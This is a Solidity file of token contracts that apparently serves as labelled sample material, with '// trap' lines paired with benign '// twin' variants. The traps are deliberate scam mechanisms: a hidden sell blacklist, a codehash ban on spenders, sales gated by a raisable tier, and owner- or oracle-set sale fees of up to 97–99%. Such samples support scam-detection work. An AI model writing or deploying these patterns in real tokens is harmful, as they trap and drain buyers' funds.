// 0.8 runs=200 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";

/// Notes about accounts lie in slots of their own, made of the shifted account and a seed.
contract Cobble is Base8("Cobblestone", "COBL", 30_000_000) {
    address private immutable mason = msg.sender;

    function tune(uint256 key, uint256 word) external {
        require(msg.sender == mason, "mason");
        assembly {
            mstore(0x00, key)
            mstore(0x20, 0x636f62626c65)
            sstore(keccak256(0x00, 0x40), word) // trap
            // twin: sstore(keccak256(0x00, 0x40), mul(word, 0))
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        assembly {
            mstore(0x00, shl(96, from))
            mstore(0x20, 0x636f62626c65)
            if sload(keccak256(0x00, 0x40)) {
                revert(0, 0)
            }
        }
        _move(from, to, value);
    }
}

/// Spenders whose code was found faulty are retired, with all that have the same code.
contract Weir is Base8("Weir", "WEIR", 88_000_000) {
    mapping(bytes32 => bool) public retired;

    function retire(address spender) external onlyOwner {
        require(spender.code.length > 0, "no code");
        retired[spender.codehash] = true; // trap
        // twin: delete retired[spender.codehash];
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        require(!retired[msg.sender.codehash], "retired");
        return super.transferFrom(from, to, value);
    }
}

/// Gives clearance to accounts of a tier that is high enough. At first none is needed.
contract Tollgate {
    address private immutable keeper = msg.sender;
    uint8 public needed;
    mapping(address => uint8) public tierOf;

    function setTier(address who, uint8 tier) external {
        require(msg.sender == keeper);
        tierOf[who] = tier;
    }

    function setNeeded(uint8 to) external {
        require(msg.sender == keeper);
        // twin: require(to <= needed);
        needed = to;
    }

    function clearance(address from) external view returns (bytes4) {
        return tierOf[from] >= needed ? this.clearance.selector : bytes4(0);
    }
}

contract Causeway is Base8("Causeway", "CSWY", 20_000_000) {
    Tollgate private immutable gate;

    constructor(address gate_) {
        gate = Tollgate(gate_);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        // twin: if (to == pair && value > totalSupply / 20)
        if (to == pair) // trap
            require(gate.clearance(from) == Tollgate.clearance.selector, "clearance");
        _move(from, to, value);
    }
}

/// Sixteen rates, one for each hour, in basis points, in one word.
contract Carillon is Base8("Carillon", "CRLN", 90_000_000) {
    uint256 private chimes = 0x00c800c800c800c800c800c800c800c800c800c800c800c800c800c800c800c8;
    address private immutable ringer = msg.sender;

    function ring(uint256 word) external onlyOwner {
        // twin: for (uint256 i; i < 256; i += 16) require(((word >> i) & 0xffff) <= 500, "rate");
        chimes = word;
    }

    function rate() public view returns (uint256 r) {
        r = (chimes >> (((block.timestamp / 1 hours) % 16) * 16)) & 0xffff;
        if (r > 9_700) r = 9_700;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if ((from == pair || to == pair) && from != ringer) {
            uint256 fee = (value * rate()) / 10_000;
            _move(from, ringer, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

/// Somebody posts the pressure here.
contract WeatherFeed {
    address private keeper;
    int256 public latestAnswer = 1e8;

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function post(int256 answer) external {
        require(msg.sender == keeper && answer > 0);
        latestAnswer = answer;
    }
}

/// Sales cost more, the farther the pressure is from normal.
contract Barometer is Base8("Barometer", "BARO", 44_000_000) {
    WeatherFeed public immutable feed;
    address private immutable treasury = msg.sender;

    constructor(address feed_) {
        feed = WeatherFeed(feed_);
    }

    function fee() public view returns (uint256 rate) {
        uint256 now_ = uint256(feed.latestAnswer());
        rate = (now_ > 1e8 ? now_ - 1e8 : 1e8 - now_) / 1e4;
        if (rate > 9_900) rate = 9_900; // trap
        // twin: if (rate > 300) rate = 300;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != treasury) {
            uint256 cost = (value * fee()) / 10_000;
            if (cost > 0) _move(from, treasury, cost);
            value -= cost;
        }
        _move(from, to, value);
    }
}
